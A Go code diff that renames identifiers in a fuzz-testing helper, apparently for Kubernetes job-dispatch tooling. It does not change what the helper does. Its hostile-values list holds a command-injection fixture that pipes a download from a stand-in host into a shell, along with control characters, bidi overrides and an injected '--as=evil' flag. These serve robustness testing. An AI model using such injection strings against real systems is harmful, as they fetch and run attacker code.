@@ -15,8 +15,8 @@ type fleet struct {
 	created  int
 }
 
-// evil returns values that a user may write wherever any value is allowed.
-func evil() []any {
+// hostileValues returns values that a user may write wherever any value is allowed.
+func hostileValues() []any {
 	return []any{
 		"", " ", "; `curl evil.example|sh` #'\"$(x)\n\x1b[2J\u202e --as=evil", "--as=evil", "\x00\r\n\t", "a/b/c/d/e", "\u2067مرحبا\u2066",
 		"0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-11-20T23:43:31Z", "kueue.x-k8s.io/multikueue", "jobmanagedby.github.io/dispatch", "example.com/x",
@@ -60,19 +60,19 @@ func (f *fleet) copyOf(object map[string]any) map[string]any {
 	if err != nil {
 		panic(err)
 	}
-	var again map[string]any
-	if err := json.Unmarshal(text, &again); err != nil {
+	var duplicate map[string]any
+	if err := json.Unmarshal(text, &duplicate); err != nil {
 		panic(err)
 	}
-	metadata, _ := again["metadata"].(map[string]any)
+	metadata, _ := duplicate["metadata"].(map[string]any)
 	f.created++
 	if f.IntN(3) > 0 && metadata != nil {
-		metadata["uid"] = fmt.Sprintf("made-%d", f.created)
+		metadata["uid"] = fmt.Sprintf("created-%d", f.created)
 	}
 	if f.IntN(2) > 0 && metadata != nil {
 		metadata["name"] = fmt.Sprintf("%v-%d", metadata["name"], f.created)
 	}
-	return again
+	return duplicate
 }
 
 // place is a field of an object, or an item of a list in it.
@@ -104,7 +104,7 @@ func (f *fleet) set(object map[string]any) {
 	all := places(object)
 	at := all[f.IntN(len(all))]
 	if f.IntN(3) == 0 {
-		others := evil()
+		others := hostileValues()
 		at.set(others[f.IntN(len(others))])
 		return
 	}
@@ -155,9 +155,9 @@ func (f *fleet) valid(objects []map[string]any) []map[string]any {
 		kind, _ := o["kind"].(string)
 		name, _ := metadata["name"].(string)
 		namespace, isText := metadata["namespace"].(string)
-		_, has := metadata["namespace"]
+		_, hasNamespace := metadata["namespace"]
 		key := fmt.Sprintf("%q %q %q %q", apiVersion, kind, namespace, name)
-		if apiVersion != "" && kind != "" && name != "" && (isText || !has) && !seen[key] {
+		if apiVersion != "" && kind != "" && name != "" && (isText || !hasNamespace) && !seen[key] {
 			seen[key] = true
 			valid = append(valid, o)
 		}
@@ -165,8 +165,8 @@ func (f *fleet) valid(objects []map[string]any) []map[string]any {
 	return valid
 }
 
-// trouble sometimes makes a context not answer, or refuse a resource.
-func (f *fleet) trouble(context map[string]any) {
+// addFault sometimes makes a context not answer, or refuse a resource.
+func (f *fleet) addFault(context map[string]any) {
 	switch f.IntN(12) {
 	case 0:
 		delete(context, "file")
